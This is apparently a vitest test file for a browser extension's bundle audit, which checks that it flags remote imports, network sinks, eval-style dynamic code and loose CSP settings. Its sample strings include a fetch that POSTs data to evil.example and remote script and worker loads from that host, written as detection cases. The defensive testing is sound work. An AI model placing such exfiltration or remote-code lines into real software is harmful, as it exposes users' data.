import { z } from 'zod';
import { describe, expect, it } from 'vitest';
import { BUNDLE_ALLOWANCES } from '../../scripts/bundle-allowances.js';
import { auditManifest, auditSource, judge } from '../../scripts/bundle-audit.js';
import '../../src/shared/protocol.js';

const rejected = (code: string) => judge(auditSource('x.js', code), BUNDLE_ALLOWANCES).rejected.map((f) => f.kind);

describe('the bundle audit', () => {
  it.each([
    ['a remote dynamic import', 'async function f(){return (await import("https://evil.example/x.js")).default}', ['remote-url', 'network-sink']],
    ['a protocol-relative script', 'const s=document.createElement("script");s.src="//evil.example/x.js"', ['remote-url']],
    ['a remote URL passed through a variable', 'const u=`https://evil.example/collect`;fetch(u,{method:"POST",body:names})', ['remote-url', 'network-sink']],
    ['a beacon', 'navigator.sendBeacon(endpoint,data)', ['network-sink']],
    ['a WebSocket', 'const ws=new WebSocket(host)', ['network-sink']],
    ['an EventSource', 'new EventSource(u)', ['network-sink']],
    ['importScripts of a computed URL', 'importScripts(base+"x.js")', ['network-sink']],
    ['a worker from a remote URL', 'new Worker("https://evil.example/w.js")', ['remote-url', 'network-sink']],
    ['eval', 'eval(code)', ['dynamic-code']],
    ['the Function constructor', 'const f=new Function("a",body)', ['dynamic-code']],
    ['a string timer', 'setTimeout("run(x)",10)', ['dynamic-code']],
    ['a remote WebSocket URL', 'const u="wss://evil.example/s"', ['remote-url']],
  ])('rejects %s', (_what, code, kinds) => {
    expect(rejected(code).sort()).toEqual([...kinds].sort());
  });

  it.each([
    ['a relative dynamic import', 'const m=await import("./chunk-abc.js")'],
    ['a local fetch', 'await fetch("/models/x.onnx")'],
    ['an extension URL', 'await fetch("chrome-extension://abc/ort/x.wasm")'],
    ['timers with functions', 'setTimeout(f,0);setInterval(()=>tick(),100)'],
    ['method names that contain a sink', 'obj.isFunction(x);myfetch(u);x.eval(y)'],
  ])('accepts %s', (_what, code) => {
    expect(rejected(code)).toEqual([]);
  });

  it('lets an allowed documentation URL through only in its own context', () => {
    expect(rejected('throw Error(`IndexedDB API missing. Please visit https://tinyurl.com/y2uuvskb`)')).toEqual([]);
    expect(rejected('fetch(`https://tinyurl.com/y2uuvskb`)')).toEqual(['remote-url', 'network-sink']);
  });

  it('rejects a CSP that allows remote or evaluated scripts, and any externally_connectable', () => {
    const csp = (extension_pages: string) => auditManifest('m', { content_security_policy: { extension_pages } }).length;
    expect(csp("script-src 'self' 'wasm-unsafe-eval'; object-src 'self'")).toBe(0);
    expect(csp("script-src 'self' https://cdn.example; object-src 'self'")).toBe(1);
    expect(csp("script-src 'self' 'unsafe-eval'")).toBe(1);
    expect(auditManifest('m', { content_security_policy: { extension_pages: "script-src 'self'" }, externally_connectable: { matches: ['https://*/*'] } })).toHaveLength(1);
  });

  it('runs zod without its Function-compiled fast path, as the allowance for it says', () => {
    expect(z.config().jitless).toBe(true);
  });
});
